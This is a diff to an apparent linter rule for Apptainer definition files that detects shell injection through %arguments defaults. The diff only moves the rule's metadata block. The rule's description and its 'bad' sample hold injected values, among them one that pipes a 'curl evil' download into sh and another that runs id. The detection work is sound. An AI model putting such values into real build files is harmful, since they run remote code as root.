@@ -7,31 +7,6 @@ import { sectionAt } from '../../vocab/sections.js';
 import { q } from '../../vocab/text.js';
 
 export const argumentShellInjection = defineRule({
-  meta: {
-    id: 'DEF909',
-    slug: 'argument-shell-injection',
-    group: 'templating',
-    defaultSeverity: 'error',
-    presets: ['recommended'],
-    summary: '`%arguments` default with shell-active characters, pasted into a script by `{{ NAME }}`.',
-    description: [
-      '`apptainer build` replaces `{{ NAME }}` with the value as raw text before any shell sees the script, so',
-      'quoting around the placeholder does not help: a default such as `x"; curl evil | sh; "` or `$(id)` ends the',
-      'string and runs a command — in `%post` as root at build time, in `%environment` at every container start.',
-      'A value used in script sections should be a plain word: letters, digits, spaces and `_ / . , : = + @ % ^ ~ -`.',
-      '(The same check guards recipe `arguments` in the generator.)',
-      '',
-      '**Fix:** use a plain value; pass anything else through the environment (`export` in `%environment`, read',
-      'as `"$VAR"`) rather than through templating.',
-    ].join('\n'),
-    bad: 'Bootstrap: docker\nFrom: alpine:3.19\n\n%arguments\n    TAG=x"; id; "\n\n%post\n    echo "{{ TAG }}"\n',
-    good: 'Bootstrap: docker\nFrom: alpine:3.19\n\n%arguments\n    TAG=3.19\n\n%post\n    echo "{{ TAG }}"\n',
-    source: 'AP-ARGS `reader.go` (plain text substitution); deffile-format.md §13',
-    messages: {
-      pastedAsCode:
-        'The default of {{ name }} contains {{ characters }} and {{ placeholder }} pastes it raw into {{ section }} (line {{ line }}): the shell would run it as code',
-    },
-  },
   create: (ctx) => ({
     stage(stage) {
       const reported = new Set<string>();
@@ -57,6 +32,31 @@ export const argumentShellInjection = defineRule({
       }
     },
   }),
+  meta: {
+    id: 'DEF909',
+    slug: 'argument-shell-injection',
+    group: 'templating',
+    defaultSeverity: 'error',
+    presets: ['recommended'],
+    summary: '`%arguments` default with shell-active characters, pasted into a script by `{{ NAME }}`.',
+    description: [
+      '`apptainer build` replaces `{{ NAME }}` with the value as raw text before any shell sees the script, so',
+      'quoting around the placeholder does not help: a default such as `x"; curl evil | sh; "` or `$(id)` ends the',
+      'string and runs a command — in `%post` as root at build time, in `%environment` at every container start.',
+      'A value used in script sections should be a plain word: letters, digits, spaces and `_ / . , : = + @ % ^ ~ -`.',
+      '(The same check guards recipe `arguments` in the generator.)',
+      '',
+      '**Fix:** use a plain value; pass anything else through the environment (`export` in `%environment`, read',
+      'as `"$VAR"`) rather than through templating.',
+    ].join('\n'),
+    bad: 'Bootstrap: docker\nFrom: alpine:3.19\n\n%arguments\n    TAG=x"; id; "\n\n%post\n    echo "{{ TAG }}"\n',
+    good: 'Bootstrap: docker\nFrom: alpine:3.19\n\n%arguments\n    TAG=3.19\n\n%post\n    echo "{{ TAG }}"\n',
+    source: 'AP-ARGS `reader.go` (plain text substitution); deffile-format.md §13',
+    messages: {
+      pastedAsCode:
+        'The default of {{ name }} contains {{ characters }} and {{ placeholder }} pastes it raw into {{ section }} (line {{ line }}): the shell would run it as code',
+    },
+  },
 });
 
 /** Sections whose body Apptainer runs (at build time, or at every container start for %environment). */
